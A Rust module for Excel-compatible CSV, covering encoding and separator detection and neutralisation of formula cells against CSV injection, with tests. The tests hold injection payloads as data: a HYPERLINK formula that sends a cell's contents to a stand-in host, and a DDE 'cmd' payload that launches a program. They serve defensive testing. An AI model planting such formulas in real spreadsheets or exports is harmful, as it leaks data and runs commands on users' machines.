//! CSV as spreadsheets write and read it, Excel above all.
//!
//! Written: a UTF-8 byte-order mark (without it Excel reads UTF-8 as the machine's ANSI code
//! page), CRLF line ends, and every cell that a spreadsheet would take for a formula (one that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return) behind a leading `'`, as OWASP
//! recommends against CSV injection. A value that itself starts with `'` before one of those,
//! or before another `'`, gets one too, so that reading undoes exactly what writing did.
//!
//! Read: `,`, `;` or tab separators, whichever splits the header row into the most known
//! columns (Excel writes `;` where the decimal separator is a comma), or the one a first line
//! `sep=;` names; UTF-8 with or without a byte-order mark, UTF-16 with one (Excel's "Unicode
//! Text"), and Windows-1252 for a file that is not UTF-8 (Excel's "CSV (Comma delimited)"), said
//! so in [`Sheet::read_as`]. A file that is none of these is refused with the line it goes wrong
//! on and how to save it instead.

use crate::core::{Error, Result};
use std::borrow::Cow;

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// How to save a file that could not be read, in Excel's words.
const SAVE_AS: &str =
    "In Excel, use Save As with \"CSV UTF-8 (Comma delimited) (*.csv)\" and import that file";

fn looks_like_formula(text: &str) -> bool {
    matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// Whether a cell as read starts with the `'` that writing put there.
fn marked(cell: &str) -> bool {
    cell.strip_prefix('\'')
        .is_some_and(|rest| looks_like_formula(rest) || rest.starts_with('\''))
}

/// The cell for `value`: behind a `'` when a spreadsheet would run it or reading would strip
/// a `'` of its own.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if looks_like_formula(value) || marked(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value of a cell: [`neutralise`] undone.
pub fn restore(cell: &str) -> &str {
    if marked(cell) {
        &cell[1..]
    } else {
        cell
    }
}

/// A CSV file being written: the byte-order mark, the header, then neutralised rows.
pub struct Writer(csv::Writer<Vec<u8>>);

fn failed(error: csv::Error) -> Error {
    Error::Internal(format!("cannot write CSV: {error}"))
}

impl Writer {
    pub fn new(header: &[&str]) -> Result<Writer> {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(BOM.to_vec());
        writer.write_record(header).map_err(failed)?;
        Ok(Writer(writer))
    }

    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> Result<()> {
        self.0
            .write_record(cells.into_iter().map(|cell| neutralise(cell).into_owned()))
            .map_err(failed)
    }

    pub fn finish(self) -> Result<Vec<u8>> {
        self.0
            .into_inner()
            .map_err(|e| Error::Internal(format!("cannot write CSV: {e}")))
    }
}

/// A CSV file as read: its header, and each row with the line it starts on (the header is
/// line 1) or what is wrong with it.
#[derive(Debug)]
pub struct Sheet {
    /// The encoding when it was not UTF-8, e.g. `Windows-1252`.
    pub read_as: Option<&'static str>,
    /// The line of the header row: 2 after a `sep=` line.
    pub header_line: usize,
    pub headers: Vec<String>,
    pub rows: Vec<std::result::Result<(usize, Vec<String>), String>>,
}

/// Reads a CSV file's bytes; `known` are the column names that tell the separator. `Err` is
/// why nothing of the file can be read, as `line N: message`.
pub fn read(bytes: &[u8], known: &[&str]) -> std::result::Result<Sheet, String> {
    let (text, read_as) = decode(bytes)?;
    let (text, skipped, named) = match text.split_once('\n') {
        Some((first, rest))
            if first.starts_with("sep=") && first.trim_end_matches('\r').len() == 5 =>
        {
            (rest, 1, Some(first.as_bytes()[4]))
        }
        _ => (text.as_ref(), 0, None),
    };
    let separator = named.unwrap_or_else(|| separator(text, known));
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(separator)
        .trim(csv::Trim::Headers)
        .flexible(true)
        .from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .map_err(|e| format!("line {}: {e}", 1 + skipped))?
        .iter()
        .map(str::to_owned)
        .collect();
    // The reader counts records, not the line breaks inside quoted cells: lines come from
    // where each record starts.
    let mut lines = Lines {
        text: text.as_bytes(),
        offset: 0,
        line: 1 + skipped,
    };
    let mut rows = Vec::new();
    for record in reader.records() {
        rows.push(match record {
            Err(error) => {
                let line = lines.at(error.position().map_or(0, |p| p.byte() as usize));
                Err(format!("line {line}: {error}"))
            }
            Ok(record) => {
                let line = lines.at(record.position().map_or(0, |p| p.byte() as usize));
                if record.len() > headers.len() {
                    Err(format!(
                        "line {line}: the row has {} cells where the header has {}; put a cell \
                         that holds a {:?} in double quotes",
                        record.len(),
                        headers.len(),
                        separator as char
                    ))
                } else {
                    // Cells missing at the end are empty (some spreadsheets leave them out).
                    let mut cells: Vec<String> =
                        record.iter().map(|c| restore(c).to_owned()).collect();
                    cells.resize(headers.len(), String::new());
                    Ok((line, cells))
                }
            }
        });
    }
    Ok(Sheet {
        read_as,
        header_line: 1 + skipped,
        headers,
        rows,
    })
}

/// The line of each byte offset of a text, for offsets that never go back.
struct Lines<'a> {
    text: &'a [u8],
    offset: usize,
    line: usize,
}

impl Lines<'_> {
    /// The line of the first byte at or after `offset` that is not a line break (the reader
    /// places a record where the previous one's line break, or a blank line, begins).
    fn at(&mut self, offset: usize) -> usize {
        let mut offset = offset.clamp(self.offset, self.text.len());
        while matches!(self.text.get(offset), Some(b'\r' | b'\n')) {
            offset += 1;
        }
        self.line += self.text[self.offset..offset]
            .iter()
            .filter(|&&b| b == b'\n')
            .count();
        self.offset = offset;
        self.line
    }
}

/// The separator among `,`, `;` and tab that splits the first line into the most `known`
/// column names (then into the most cells); `,` when none does better.
fn separator(text: &str, known: &[&str]) -> u8 {
    let header = text.lines().next().unwrap_or_default();
    [b'\t', b';', b',']
        .into_iter()
        .max_by_key(|&separator| {
            let cells: Vec<&str> = header
                .split(separator as char)
                .map(|c| c.trim().trim_matches('"'))
                .collect();
            let matching = cells
                .iter()
                .filter(|c| known.iter().any(|k| k.eq_ignore_ascii_case(c)))
                .count();
            (matching, cells.len())
        })
        .unwrap_or(b',')
}

/// The line (from 1) that byte `offset` of `bytes` is on.
fn line_at(bytes: &[u8], offset: usize) -> usize {
    bytes[..offset].iter().filter(|&&b| b == b'\n').count() + 1
}

/// The text of a file, and the encoding it was read as when not UTF-8.
fn decode(bytes: &[u8]) -> std::result::Result<(Cow<'_, str>, Option<&'static str>), String> {
    if let Some((encoding, length)) = encoding_rs::Encoding::for_bom(bytes) {
        let body = &bytes[length..];
        if encoding == encoding_rs::UTF_8 {
            return std::str::from_utf8(body)
                .map(|text| (Cow::Borrowed(text), None))
                .map_err(|e| {
                    format!(
                        "line {}: the file starts as UTF-8 but this line is not UTF-8. {SAVE_AS}.",
                        line_at(body, e.valid_up_to())
                    )
                });
        }
        let text = encoding
            .decode_without_bom_handling_and_without_replacement(body)
            .ok_or_else(|| {
                let (lossy, _) = encoding.decode_without_bom_handling(body);
                let bad = lossy.find('\u{FFFD}').unwrap_or(0);
                format!(
                    "line {}: the file starts as {} but this line is not. {SAVE_AS}.",
                    line_at(lossy.as_bytes(), bad),
                    encoding.name()
                )
            })?;
        return Ok((Cow::Owned(text.into_owned()), Some(encoding.name())));
    }
    let error = match std::str::from_utf8(bytes) {
        Ok(text) => return Ok((Cow::Borrowed(text), None)),
        Err(error) => error,
    };
    let not_text = |offset: usize, what: &str| {
        Err(format!(
            "line {}: {what}, so the file is neither UTF-8 nor Windows-1252. {SAVE_AS}.",
            line_at(bytes, offset)
        ))
    };
    if let Some(nul) = bytes.iter().position(|&b| b == 0) {
        return not_text(
            nul,
            "this line holds a zero byte (a workbook, or UTF-16 without a byte-order mark)",
        );
    }
    // Text that is UTF-8 in one place and not in another is neither encoding throughout.
    if bytes.utf8_chunks().any(|chunk| !chunk.valid().is_ascii()) {
        return not_text(
            error.valid_up_to(),
            "this line is not UTF-8 while others are",
        );
    }
    // Five bytes have no character in Windows-1252 (encoding_rs maps them to C1 controls).
    if let Some(undefined) = bytes
        .iter()
        .position(|b| matches!(b, 0x81 | 0x8D | 0x8F | 0x90 | 0x9D))
    {
        return not_text(
            undefined,
            &format!("this line holds the byte 0x{:02X}", bytes[undefined]),
        );
    }
    let (text, _) = encoding_rs::WINDOWS_1252.decode_without_bom_handling(bytes);
    Ok((Cow::Owned(text.into_owned()), Some("Windows-1252")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const COLUMNS: &[&str] = &["userName", "displayName", "email"];

    fn cells(sheet: &Sheet) -> Vec<Vec<String>> {
        sheet
            .rows
            .iter()
            .map(|row| row.as_ref().unwrap().1.clone())
            .collect()
    }

    #[test]
    fn formulas_are_written_behind_a_quote_and_read_back_as_they_were() {
        for (value, cell) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("''", "'''"),
            ("'", "'"),
            ("'abc", "'abc"),
            ("Anna Müller", "Anna Müller"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(value), cell, "{value:?}");
            assert_eq!(restore(cell), value, "{cell:?}");
        }
    }

    #[test]
    fn a_written_file_has_a_byte_order_mark_and_crlf() {
        let mut writer = Writer::new(COLUMNS).unwrap();
        writer.row(["anna", "Anna Müller", "=1+1"]).unwrap();
        let bytes = writer.finish().unwrap();
        assert_eq!(
            bytes,
            "\u{FEFF}userName,displayName,email\r\nanna,Anna Müller,'=1+1\r\n".as_bytes()
        );
    }

    #[test]
    fn the_separator_is_the_one_that_splits_the_header_into_known_columns() {
        for (text, expected) in [
            ("userName,displayName,email\n", b','),
            ("userName;displayName;email\n", b';'),
            ("userName\tdisplayName\temail\n", b'\t'),
            ("\"userName\";\"displayName, full\";email\n", b';'),
            ("a,b;c\n", b','),
            ("", b','),
        ] {
            assert_eq!(separator(text, COLUMNS), expected, "{text:?}");
        }
    }

    #[test]
    fn excel_files_are_read_byte_for_byte() {
        // "CSV UTF-8 (Comma delimited)": a byte-order mark and CRLF, a multi-line cell (LF).
        let utf8 = b"\xEF\xBB\xBFuserName,displayName,email\r\nanna,\"Anna\nM\xC3\xBCller, HR\",anna@example.com\r\nbob,Bob,bob@example.com\r\n";
        let sheet = read(utf8, COLUMNS).unwrap();
        assert_eq!(sheet.read_as, None);
        assert_eq!(sheet.headers, COLUMNS);
        assert_eq!(
            cells(&sheet)[0],
            ["anna", "Anna\nMüller, HR", "anna@example.com"]
        );
        assert_eq!(sheet.rows[1].as_ref().unwrap().0, 4, "the line bob is on");
        // "CSV (Comma delimited)" in a German Excel: Windows-1252 and ';'.
        let ansi = b"userName;displayName;email\r\ncarl;Carl M\xFCller;carl@example.com\r\neve;\"Eve; \x80 \x93quoted\x94\";eve@example.com\r\n";
        let sheet = read(ansi, COLUMNS).unwrap();
        assert_eq!(sheet.read_as, Some("Windows-1252"));
        assert_eq!(
            cells(&sheet),
            [
                ["carl", "Carl Müller", "carl@example.com"],
                ["eve", "Eve; € “quoted”", "eve@example.com"]
            ]
        );
        // "Unicode Text": UTF-16LE with a byte-order mark, tab-separated.
        let mut unicode = vec![0xFF, 0xFE];
        for unit in
            "userName\tdisplayName\temail\r\nanna\tAnna Müller\tanna@example.com\r\n".encode_utf16()
        {
            unicode.extend(unit.to_le_bytes());
        }
        let sheet = read(&unicode, COLUMNS).unwrap();
        assert_eq!(sheet.read_as, Some("UTF-16LE"));
        assert_eq!(cells(&sheet), [["anna", "Anna Müller", "anna@example.com"]]);
        // A first line `sep=;` names the separator, and counts as a line.
        let sheet = read(b"sep=;\r\nuserName;email\r\nx;x@example.com\r\n", COLUMNS).unwrap();
        assert_eq!(sheet.headers, ["userName", "email"]);
        assert_eq!(sheet.rows[0].as_ref().unwrap().0, 3);
    }

    #[test]
    fn short_rows_are_padded_and_long_ones_refused_on_their_line() {
        let sheet = read(
            b"userName,displayName,email\nanna,Anna\nbob,Bob,b@x.io,extra\n",
            COLUMNS,
        )
        .unwrap();
        assert_eq!(sheet.rows[0].as_ref().unwrap().1, ["anna", "Anna", ""]);
        let long = sheet.rows[1].as_ref().unwrap_err();
        assert!(
            long.starts_with("line 3: the row has 4 cells where the header has 3"),
            "{long}"
        );
    }

    #[test]
    fn what_is_neither_utf8_nor_windows_1252_is_refused_on_its_line() {
        let refused = |bytes: &[u8]| read(bytes, COLUMNS).unwrap_err();
        let mixed =
            refused(b"userName,displayName\nanna,Anna M\xC3\xBCller\ncarl,Carl M\xFCller\n");
        assert!(
            mixed.starts_with("line 3: this line is not UTF-8 while others are"),
            "{mixed}"
        );
        assert!(mixed.contains("CSV UTF-8 (Comma delimited)"), "{mixed}");
        let undefined = refused(b"userName\na\nb\x81\n");
        assert!(
            undefined.starts_with("line 3: this line holds the byte 0x81"),
            "{undefined}"
        );
        let workbook = refused(b"PK\x03\x04\x14\x00\x06\x00\xff");
        assert!(
            workbook.starts_with("line 1: this line holds a zero byte"),
            "{workbook}"
        );
        let bom = refused(b"\xEF\xBB\xBFuserName\r\nok\r\nbad \xFC\r\n");
        assert!(bom.starts_with("line 3: the file starts as UTF-8"), "{bom}");
    }

    fn any_text() -> impl Strategy<Value = String> {
        prop_oneof![any::<String>(), "['=+@\\-\t\r\n\",;]{0,3}[a-zA-Z' ]{0,4}",]
    }

    proptest! {
        #[test]
        fn what_is_written_is_read_back_the_same(
            rows in proptest::collection::vec(proptest::collection::vec(any_text(), 3), 0..6)
        ) {
            let mut writer = Writer::new(COLUMNS).unwrap();
            for row in &rows {
                writer.row(row.iter().map(String::as_str)).unwrap();
            }
            let bytes = writer.finish().unwrap();
            let sheet = read(&bytes, COLUMNS).unwrap();
            prop_assert_eq!(sheet.read_as, None);
            let back: Vec<Vec<String>> = sheet.rows.into_iter().map(|r| r.unwrap().1).collect();
            prop_assert_eq!(back, rows);
        }
    }
}
